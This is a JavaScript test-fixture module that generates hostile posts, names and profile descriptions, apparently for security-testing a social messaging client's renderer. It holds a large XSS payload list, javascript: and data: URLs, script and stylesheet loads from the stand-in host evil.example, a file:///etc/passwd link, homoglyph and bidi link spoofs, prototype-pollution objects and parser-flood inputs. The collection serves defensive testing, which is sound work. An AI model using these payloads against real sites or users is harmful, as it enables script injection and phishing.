/**
 * What strangers write to do harm: posts, warnings, channels, names, descriptions and mentions, the same ones at every call. Each family is made of parts
 * that are combined, so that every wrapping meets every load.
 */
'use strict'

/** At most this many UTF-16 units of text fit into a message beside everything else. */
const UNITS = 7000
const RUN = 'globalThis.pwned=1'
const EVIL = 'https://evil.example/'
const id = (sigil, n) => `${sigil}${Buffer.alloc(32, n).toString('base64')}.${sigil === '@' ? 'ed25519' : 'sha256'}`

/** Numbers that look random and are the same each time. */
const numbers = (seed) => () => {
  seed = (seed + 0x6d2b79f5) | 0
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed)
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296
}
const fill = (part, units = UNITS) => part.repeat(Math.max(1, Math.floor(units / part.length)))

const MARKUP = [
  `<script>${RUN}</script>`, `<script src=${EVIL}x.js></script>`, `<img src=x onerror="${RUN}">`, `<img src=${EVIL}t.png>`, `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${RUN}"></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src=${EVIL}></iframe>`, `<object data="javascript:${RUN}"></object>`, `<embed src=${EVIL}x.swf>`,
  `<body onload="${RUN}">`, `<input autofocus onfocus="${RUN}">`, `<details open ontoggle="${RUN}"><summary>x</summary></details>`, `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`, `<marquee onstart="${RUN}">x</marquee>`, `<form action="${EVIL}"><button>x</button></form>`, `<form id=kithBoot><input name=x></form>`,
  `<a href="javascript:${RUN}">x</a>`, `<a id=defaultView name=body>clobber</a>`, `<base href=${EVIL}>`, `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}x.css>`, `<style>*{display:none!important}</style>`, `<style>@import '${EVIL}x.css'</style>`, `<div style="position:fixed;inset:0;z-index:99;background:red">x</div>`,
  `<div style="background:url(${EVIL}x.png)">x</div>`, `<template><script>${RUN}</script></template>`, `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<x-y onclick="${RUN}" tabindex=0 autofocus onfocus="${RUN}">x</x-y>`, `<button popovertarget=x>x</button>`,
  `<dialog open><form method=dialog><button autofocus>x</button></form></dialog>`, `<slot name=x></slot>`, `<portal src=${EVIL}></portal>`, `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${EVIL}x.css"?>`, `<!--><img src=x onerror=${RUN}>-->`, `<img src=x:x onerror=&#112;wned=1>`, `<a href=&#106;avascript:${RUN}>x</a>`, `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`, `{{constructor.constructor("${RUN}")()}}`, '${' + RUN + '}', `<%= ${RUN} %>`, `[[${RUN}]]`, `javascript:${RUN}`,
  `"><img src=x onerror=${RUN}>`, `'-${RUN}-'`, `\`-${RUN}-\``, `</textarea><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `]]>`, `--><script>${RUN}</script>`,
]
const SCHEMES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `javascript%3A${RUN}`,
  `vbscript:${RUN}`, `data:text/html,<script>opener.${RUN}</script>`, 'data:image/svg+xml,<svg/onload=1>', 'data:text/html;base64,PHNjcmlwdD4=', 'file:///etc/passwd', 'blob:https://evil.example/x',
  'filesystem:https://evil.example/x', 'about:blank', 'view-source:https://evil.example/', 'chrome://settings', 'intent://x#Intent;end', 'ms-msdt:/id', 'tel:+1', 'sms:+1?body=x', 'ftp://evil.example/x',
  'ws://evil.example/', '//evil.example/x', '\\\\evil.example\\x', '/\\evil.example', 'https:evil.example', 'https:/\\evil.example', 'http://evil.example\\@bank.example/', '../../api/logout', '/api/settings', '?x=1', '#x',
  'ssb:message/sha256/x', 'ssb://feed/classic/' + 'A'.repeat(43), 'ssb:experimental?action=start-http-auth&sid=x&sc=y', 'mailto:x@evil.example?subject=x&body=y', 'magnet:?xt=urn:btih:x', 'x-apple.systempreferences:',
]
const AROUND_LINK = [(to) => `[x](${to})`, (to) => `[x](<${to}>)`, (to) => `<${to}>`, (to) => `![x](${to})`, (to) => `[x][1]\n\n[1]: ${to}`, (to) => `[![x](${to})](${to})`, (to) => `[x](${to} "title \\" onmouseover=${RUN}")`]
const DISGUISES = [
  [`https://bank.example/login`, EVIL], ['bank.example', EVIL], ['**bank.example**', EVIL], ['`bank.example`', EVIL], ['***_bank.example_***', EVIL], ['Log in at bank.example', EVIL], ['www.bank.example/x?y', EVIL],
  ['bank\u200B.example', EVIL], ['bank\u3002example', EVIL], ['bank\uFF0Eexample', EVIL], ['bank\u2024example', EVIL], ['\u202Eelpmaxe.knab', EVIL], ['b\u0430nk.example', 'https://b\u0430nk.example/'], ['HTTPS://BANK.EXAMPLE', EVIL],
  ['bank.example', 'https://bank.example@evil.example/'], ['bank.example', 'https://bank.example.evil.example/'], ['bank.example', 'https://xn--bnk-5cd.example/'], ['bank.example', 'https://0x7f000001/'], ['bank.example', 'https://2130706433/'],
  ['bank.example', 'https://[::1]/'], ['bank.example:443', 'https://evil.example:443/'], ['\u2066bank.example\u2069', EVIL], ['![bank.example](x)', EVIL], ['\u200F\u202Dbank.example', EVIL],
]
const BARE = [
  'https://bank.example@evil.example/', 'https://bank.example:443@evil.example/', 'http://\u0435\u0440\u0456\u0441.com', 'http://xn--e1awd7f.com', 'https://bank.example\u2044login.evil.example', 'https://evil.example/\u202Egnp.exe',
  'https://evil.example/' + 'a'.repeat(1500), 'https://' + 'a.'.repeat(120) + 'example', 'www.' + 'a'.repeat(300) + '.example', 'x@' + 'a'.repeat(200) + '.example', 'https://evil.example/?q=' + '%F0%9F%98%80'.repeat(60), 'http://[::ffff:7f00:1]/',
  'https://evil.example/\u200B\u200C\u200D\uFEFF', 'https://evil.example/#' + '/'.repeat(400), 'HTTPS://EVIL.EXAMPLE', 'https://evil.example:99999/', 'http://a\u0301\u0301\u0301.example', 'https://\u{1F4A9}.example',
]
const BIDI = ['\u202E', '\u202D', '\u202A', '\u202B', '\u2066', '\u2067', '\u2068', '\u200F', '\u061C', '\u202E\u2066', '\u202A'.repeat(130), '\u2067'.repeat(130)]
const INVISIBLE = ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF', '\u00AD', '\u180E', '\u3164', '\u115F', '\u2800', '\uFE0F', '\u{E0041}', '\u{E0001}', '\u034F', '\u2028', '\u2029', '\u0085', '\u000B', '\u0007', '\u001B[31m', '\u0000', '\uFFFE', '\uFFFF', '\uD800', '\uDC00']
const SHORT_RTL = '\u05E9\u05DC\u05D5\u05DD \u05DC\u05DB\u05D5\u05DC\u05DD'
const ARABIC = '\u0645\u0631\u062D\u0628\u0627 \u0628\u0643\u0645'
const ZALGO = Array.from({ length: 40 }, (_, n) => String.fromCharCode(0x300 + n)).join('')
const EMOJI = ['\u{1F600}', '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}', '\u{1F1E6}\u{1F1F6}', '\u{1F44D}\u{1F3FF}', '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', '\u2764\uFE0F\u200D\u{1F525}', '#\uFE0F\u20E3', '\u{1FAE8}']
/** What is a word without a place to break, in several writings. */
const LONG = ['a', 'W', 'i', '\u4E2D', '\u0E01', '\u{1F600}', '\u0645', '_', '-', '.', '/', '=', '\u00A0', '\u2014', '\u2060', 'a\u2060', '\uFDFD', '\u{12031}', '\u0D1F\u0D4D', 'fi\u0301', '\u2588', '\uFF21', '1', '%F0', '\\', '|', '~', '^', '"', '&']
/** One mark often: what costs a parser or a page most. */
const FLOODS = [
  '>', '> ', '*', '**', '_', '*_', '~~', '`', '``', '[', ']', '[]', '[](', '![', '![](', '(', '<', '</', '<a', '<!--', '&', '&amp;', '&#0;', '&#x110000;', '\\', '\\[', '- ', '* ', '1. ', '+ ', '#', '# ', '|', '|a', '-|', '\n', '\n\n', '\n\n\n> ', '\n- ', '\n1. ', '\n    ', '\n\t', '\t',
  '\r', '\r\n', '---\n', '***\n', '===\n', '```\n', '~~~\n', '[a](b)', '[a][a]', '[a]: b\n', '![a](b)', '<a@b.cc>', '<http://a>', 'a@b.cc ', 'http://a.bc ', 'www.a.bc ', '#a ', '@a ', `${id('%', 3)} `, `${id('@', 4)}`, '@', '%', '**a', 'a**', '*a ', ' *a', '_a_ ', '~~a~~', '`a`', 'a\\\n', 'a  \n', '"', "'", ':', ':a:', '\u0000',
  '[a](<b', '[a](b "', '*a _b ', '[*a](', '![[]()', '|a|b|\n|-|-|\n', '> - 1. ', '- > ', '[x]: /a\n[x]', '&notanentity;', '<x>', '\u202E', '\u200B', 'a\u0300', ...EMOJI,
]
const blocks = (n, of) => Array.from({ length: n }, (_, i) => of(i)).join('')
const STRUCTURES = [
  ...[8, 9, 20, 100, 400].flatMap((n) => [blocks(n, () => '> ') + 'deep', blocks(n, (i) => '  '.repeat(Math.min(i, 40)) + '- x\n'), blocks(n, (i) => ' '.repeat(Math.min(i * 3, 120)) + '1. x\n'), '*'.repeat(n) + 'x' + '*'.repeat(n), '['.repeat(n) + 'x' + '](y)'.repeat(n), '![ '.repeat(n) + 'x' + '](y)'.repeat(n),
    blocks(n, (i) => `${'#'.repeat((i % 8) + 1)} heading ${i}\n`), blocks(n, () => '> - ') + 'x', blocks(n, (i) => `[${i}]: ${EVIL}${i}\n`) + '[0]']),
  ...[2, 30, 150, 600].flatMap((n) => ['|' + 'h|'.repeat(n) + '\n|' + '-|'.repeat(n) + '\n' + ('|' + 'c|'.repeat(n) + '\n').repeat(Math.max(1, Math.floor(5000 / (n * 2 + 2)))), '|h|\n|-|\n' + '|c|\n'.repeat(n), '|' + 'a'.repeat(n) + '|b|\n|-|-|\n|' + 'c'.repeat(n) + '|d|\n', '|a|b|\n|:-:|--:|\n' + `|[x](${EVIL})|![y](${EVIL}t.png)|\n`.repeat(Math.min(n, 100))]),
  ...[10, 300, 1500].flatMap((n) => ['- x\n'.repeat(n), '1. x\n'.repeat(n), '999999999. x\n'.repeat(Math.min(n, 400)), '- [ ] x\n'.repeat(Math.min(n, 700)), '***\n'.repeat(n), 'x\n'.repeat(n), 'x\n\n'.repeat(n), '`x` '.repeat(n), '**x** '.repeat(Math.min(n, 1000))]),
  '```\n' + fill('W') + '\n```', '```\n' + 'x\n'.repeat(3000), '~~~' + 'x'.repeat(5000) + '\ny', '    ' + fill('code '), '`' + fill('c') + '`', '```html\n</code></pre><script>' + RUN + '</script>\n```', '`</code><script>' + RUN + '</script>`', '# ' + fill('H'), '> ' + fill('q'), '- ' + fill('l'), '**' + fill('b') + '**', `[${fill('t', 3000)}](${EVIL})`, `[x](${EVIL}${fill('u', 3000)})`,
  '-1. x', '0. x', '18446744073709551616. x', '1) x\n2. y', 'Setext\n===', 'Setext\n---', '[^1]\n\n[^1]: note', '$$\\href{javascript:' + RUN + '}{x}$$', ':::danger\nx\n:::', '==x== ^x^ ~x~ ++x++', '- [x](', '![', '[', ']', '``', '|-|', '',
]
const FORGERIES = [
  { text: `[@Ana](${id('@', 9)}) says hello`, mentions: [{ link: id('@', 9), name: 'Ana' }] }, { text: '@Ana @An\u0430 @Ana\u200B @\u202EanA', mentions: [{ link: id('@', 9), name: 'Ana' }, { link: id('@', 8), name: 'An\u0430' }] },
  { text: '@__proto__ @constructor @toString @hasOwnProperty', mentions: ['__proto__', 'constructor', 'toString', 'hasOwnProperty'].map((name) => ({ link: id('@', 7), name })) }, { text: '@a', mentions: [null, 5, [], 'x', { link: 7 }, { link: {} }, { name: 'a' }, { link: 'javascript:1', name: 'a' }, { link: id('@', 1), name: { toString: 1 } }, { link: id('@', 1), name: ['a'] }] },
  { text: '@x', mentions: { length: 3 } }, { text: '@x', mentions: 'x' }, { text: 'x', mentions: fill('{"a":', 50).split('').map((name) => ({ link: id('@', 2), name })) }, { text: `${id('@', 5)}${id('@', 6)}`, mentions: [{ link: id('@', 5), name: fill('n', 3000) }] },
  { text: `${id('%', 5).toLowerCase()} ${id('%', 5).replace('=', '%3D')} ${id('%', 5)}?unbox=${Buffer.alloc(32).toString('base64')}.boxs ${id('%', 5).replace('sha256', 'sha257')}` }, { text: `[x](${id('%', 5)}#${RUN}) [x](${id('&', 5)}) ![x](${id('&', 5)}) [x](${id('@', 5)}/../../settings)` },
  { text: 'I l1 O0 ' + ['AIl1', 'AlI1', 'A1lI'].map((part) => `@${part}${'A'.repeat(39)}=.ed25519`).join(' ') }, { text: 'x', root: id('%', 1), branch: [id('%', 1), id('%', 2)] }, { text: 'x', root: id('@', 1), branch: id('&', 1) }, { text: 'x', root: 'x', branch: [] }, { text: 'x', root: { a: 1 }, branch: [null, 5] },
  { text: 'x', fork: id('%', 1), root: id('%', 2), branch: Array.from({ length: 60 }, (_, n) => id('%', n)) }, { text: 'x', channel: fill('c', 3000) }, { text: 'x', channel: `<img src=x onerror=${RUN}>` }, { text: 'x', channel: '\u202Exyz' }, { text: 'x', channel: { a: 1 } }, { text: 'x', channel: '' }, { text: 'x', channel: '__proto__' }, { text: 'x', channel: '../../settings' }, { text: 'x', channel: ZALGO },
  { text: 'x', contentWarning: `<script>${RUN}</script>` }, { text: 'x', contentWarning: fill('w', 3000) }, { text: 'x', contentWarning: '\u202Exyz' }, { text: 'x', contentWarning: { a: 1 } }, { text: 'x', contentWarning: true }, { text: 'x', contentWarning: '' }, { text: 'x', contentWarning: ' \n\t ' }, { text: 'x', contentWarning: 'e' + ZALGO }, { text: 'x', contentWarning: fill(EMOJI[1], 2000) },
  { text: 'x', __proto__x: 1, constructor: { prototype: { pwned: 1 } } }, { text: 'x', likes: { n: 1e9 }, holders: { n: 9, names: ['Ana'] }, author: id('@', 1), at: 1e300, missing: true, cw: 'x', replies: -1 }, { text: 'x', timestamp: 'NaN', sequence: -1, toString: 'x', valueOf: 'x', then: 'x', $$typeof: 'x', key: 'x', ref: 'x', dangerouslySetInnerHTML: { __html: `<img src=x onerror=${RUN}>` } },
  { text: 'x', style: 'position:fixed', class: 'fab', id: 'app', href: `javascript:${RUN}` }, { text: `#${fill('t', 3000)}` }, { text: '#<script> #a#b #\u202Exyz #__proto__ #\u0430\u0430 #' + EMOJI[0] + ' ##x #1 #-' }, { text: fill('#t\u00E9 ', 3000) },
]

/** Posts: contents of type post. */
function posts() {
  const next = numbers(20)
  const pick = (list) => list[Math.floor(next() * list.length)]
  const out = []
  const add = (kind, content) => out.push({ kind, content: { type: 'post', ...content } })
  for (const [i, one] of MARKUP.entries()) {
    add('markup', { text: one })
    for (const text of [`before **${one}** after`, `> ${one}`, `- ${one}\n- x`, `|a|b|\n|-|-|\n|${one}|x|`, `\`\`\`html\n${one}\n\`\`\``, `![${one}](x) [${one}](${EVIL})`]) add('markup', { text })
    if (i % 4 === 0) add('markup', { text: 'x', contentWarning: one, channel: one })
    if (i % 4 === 1) add('markup', { text: fill(one + ' ', 5000) })
  }
  for (const to of SCHEMES) for (const around of AROUND_LINK) add('scheme', { text: around(to) })
  for (const [label, to] of DISGUISES) for (const text of [`[${label}](${to})`, `See [${label}](${to}), it is safe`, `> [${label}](${to})`]) add('disguise', { text })
  for (const bare of BARE) for (const text of [bare, `(${bare})`, `${bare}, ${bare}`, `**${bare}**`, `<${bare}>`, `|a|b|\n|-|-|\n|${bare}|x|`]) add('bare link', { text })
  for (const mark of BIDI) for (const text of [`${mark}abc 123 (x)`, `[x${mark}y](${EVIL})`, `abc ${mark} ${SHORT_RTL} def`, `\`${mark}code\` ${mark}**bold`, `- ${mark}a\n- b`, `@${mark}a #${mark}b https://evil.example/${mark}c`, `${mark}\n\n${mark}`]) add('bidi', { text })
  for (const mark of INVISIBLE) for (const text of [mark, fill(mark, 3000), `a${mark}b`, `[${mark}](${EVIL})`, `java${mark}script:${RUN} <scr${mark}ipt>`, `@An${mark}a #t${mark}ag`]) add('invisible', { text })
  for (const part of LONG) for (const units of [300, UNITS]) for (const around of [(word) => word, (word) => `> ${word}`, (word) => `- ${word}`, (word) => `**${word}**`, (word) => `# ${word}`, (word) => `\`${word}\``]) add('long word', { text: around(fill(part, units)) })
  for (const part of FLOODS) for (const units of [400, 3000, UNITS]) add('flood', { text: fill(part, units) })
  for (const part of FLOODS) add('flood', { text: fill(part, 3000) + fill(pick(FLOODS), 3000) })
  for (const text of STRUCTURES) add('structure', { text: text.slice(0, UNITS) })
  for (const content of FORGERIES) add('forgery', content)
  for (let n = 1; n <= 40; n++) add('zalgo', { text: ('Z' + ZALGO.slice(0, n)).repeat(Math.max(1, Math.floor((n % 5 === 0 ? 3000 : 40) / (n + 1)))) })
  for (const one of EMOJI) for (const n of [1, 50, 3000]) add('emoji', { text: fill(one, n) })
  for (const a of [SHORT_RTL, ARABIC, 'plain words', '\u4E2D\u6587', '1,234 (x)']) for (const b of [SHORT_RTL, ARABIC, 'plain words', `https://example.org/x?y=${ARABIC}`, '`code`', `[${ARABIC}](${EVIL})`]) add('mixed directions', { text: `${a} ${b} ${a}\n\n- ${b}\n- ${a}\n\n|${a}|${b}|\n|-|-|\n|${b}|${a}|` })
  const parts = [...MARKUP, ...BIDI, ...INVISIBLE, ...EMOJI, ...BARE.slice(0, 6), ...FLOODS, ...LONG, SHORT_RTL, ARABIC, 'Z' + ZALGO, '\n', '\n\n', ' ', 'word']
  for (let n = 0; n < 300; n++) {
    let text = ''
    const units = 50 + Math.floor(next() ** 3 * (UNITS - 1200))
    while (text.length < units) text += pick(parts)
    add('mixture', { text: text.slice(0, UNITS) })
  }
  return out
}

/** Names and descriptions of people. */
function people() {
  const names = [
    ...MARKUP.slice(0, 30), ...BIDI.map((mark) => `A${mark}na`), ...INVISIBLE, ...INVISIBLE.map((mark) => `An${mark}a`), ...LONG.map((part) => fill(part, 300)), ...LONG.map((part) => fill(part, 5000)), ...EMOJI.map((one) => fill(one, 400)), 'Ana', 'An\u0430', 'ANA', 'Ana ', ' Ana', 'A\u0144a', '@Ana', id('@', 3), 'You', 'kith', 'Admin \u2713', '__proto__', 'constructor',
    'Z' + ZALGO, fill('Z' + ZALGO, 2000), SHORT_RTL, ARABIC, `${ARABIC} Ana ${SHORT_RTL}`, 'a\nb\nc', 'a\tb', '   ', '.', '(blocked)', '4 min', 'https://evil.example/', `[x](javascript:${RUN})`, '**bold**', '{name}', '{n} others', 'Ana, Ben and 3 others',
  ]
  const bios = [...MARKUP.slice(0, 20), ...FLOODS.slice(0, 40).map((part) => fill(part, 3000)), ...STRUCTURES.slice(0, 40).map((text) => text.slice(0, 5000)), ...LONG.map((part) => fill(part, 5000))]
  return names.map((name, i) => ({ name, description: bios[i % bios.length] }))
}

module.exports = { posts, people, RUN }
